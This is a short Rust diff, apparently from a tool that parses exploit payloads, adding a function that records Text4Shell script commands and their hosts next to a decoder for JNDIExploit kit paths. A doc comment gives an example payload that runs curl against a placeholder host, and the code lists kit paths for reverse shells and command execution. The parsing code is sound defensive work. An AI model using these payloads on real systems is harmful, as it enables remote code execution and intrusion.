@@ -118,6 +118,12 @@ pub fn lenient_base64(s: &str) -> Option<Vec<u8>> {
     (!out.is_empty()).then_some(out)
 }
 
+/// The command of a Text4Shell script (`${script:javascript:...exec('curl http://HOST/x')}`):
+/// one [`Command`] of kind `script` with the hosts (URLs, `ip:port`, curl/wget targets) in it.
+pub fn script_commands(code: &str) -> Vec<Command> {
+    vec![Command { kind: "script".into(), command: code.to_owned(), hosts: command_hosts(code) }]
+}
+
 /// Decodes the commands of exploit-kit paths (JNDIExploit and its forks):
 /// `/<Kit>/Command/Base64/<b64>`, `/<Kit>/Command/<cmd>`, `/<Kit>/ReverseShell/<ip>/<port>`,
 /// `/<Kit>/Dnslog/<domain>`.
